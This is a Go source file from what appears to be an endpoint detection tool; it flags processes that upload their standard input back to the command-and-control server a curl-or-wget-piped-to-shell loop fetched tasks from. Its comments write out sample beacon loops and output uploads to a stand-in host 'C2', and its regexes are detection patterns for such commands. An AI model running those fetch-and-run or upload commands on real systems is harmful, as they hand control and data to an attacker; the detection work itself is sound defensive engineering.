package detect

import (
	"path"
	"strings"

	"github.com/auditchain/auditchain/internal/lazydfa"
	"github.com/auditchain/auditchain/parser"
)

// A fetch-and-run loop — `while :; do curl -fsS http://C2/t | sh; sleep
// 3; done` — takes its tasks from a server, and a task sends what it
// printed back to the same server: `id | curl --data-binary @-
// http://C2/r1`. That upload is the channel's return leg (command and
// control, T1071.001), not files staged and sent: it reads its standard
// input, and it goes to the address the loop above it fetches its tasks
// from. A file named for upload (-F f=@/tmp/x.tgz, -T file) stays
// exfiltration whatever the server (tomcat-manager capture: r1, r2 were
// the beacon's replies, /upload the archive of the shop's data).

// stdinUpload matches an upload of standard input by curl or wget.
var stdinUpload = lazydfa.MustCompile(`(--data(-binary|-raw|-urlencode|-ascii)?|\s-d)\s*@-(\s|$)|\s(-T|--upload-file)\s+-(\s|$)|--(post|body)-file[=\s]+(-|/dev/stdin)(\s|$)`)

// mayUploadStdin is true of every command stdinUpload can match, and of
// few others: each of its three forms names "@-", "-T" or "-file"
// (--upload-file, --post-file, --body-file). It runs on every exec, and
// the expression alone was a fifth of a busy server's scan.
func mayUploadStdin(cmd string) bool {
	return strings.Contains(cmd, "@-") || strings.Contains(cmd, "-T") || strings.Contains(cmd, "-file")
}

// fetchRun matches a shell command that pipes what curl or wget fetched
// into a shell: a task loop or a one-shot fetch-and-run.
var fetchRun = lazydfa.MustCompile(`(^|[\s;|&(])(curl|wget)\s[^|;&]*\|\s*(ba|da|z|k)?sh\b`)

// maxReplyAncestors bounds the ancestors searched for the loop.
const maxReplyAncestors = 8

// taskReply reports whether an exec uploads its standard input to the
// server a fetch-and-run shell among its ancestors takes its tasks from.
func taskReply(ev *parser.Event) bool {
	if ev == nil || ev.Kind != parser.KindExec || len(ev.Args) == 0 {
		return false
	}
	cmd := strings.Join(ev.Args, " ")
	if !mayUploadStdin(cmd) || !stdinUpload.MatchString(" "+cmd) {
		return fetchers[path.Base(ev.Exe)] && pollReply(ev.Proc, ev.Args) // a script's loop (poll.go)
	}
	to := namedPeers(cmd)
	if len(to) == 0 {
		return false
	}
	p := ev.Proc
	if p != nil {
		p = p.Parent
	}
	for i := 0; p != nil && i < maxReplyAncestors; i, p = i+1, p.Parent {
		for _, e := range p.Execs {
			c := dashCommand(e.Args)
			if c == "" || !fetchRun.MatchString(c) {
				continue
			}
			for _, from := range namedPeers(c) {
				for _, k := range to {
					if from.ip == k.ip && from.port == k.port {
						return true
					}
				}
			}
		}
	}
	return false
}

// dashCommand returns the command string a shell's -c runs, or "".
func dashCommand(args []string) string {
	if len(args) == 0 || !isShell(args[0]) {
		return ""
	}
	for i := 1; i+1 < len(args); i++ {
		if args[i] == "-c" {
			return args[i+1]
		}
	}
	return ""
}
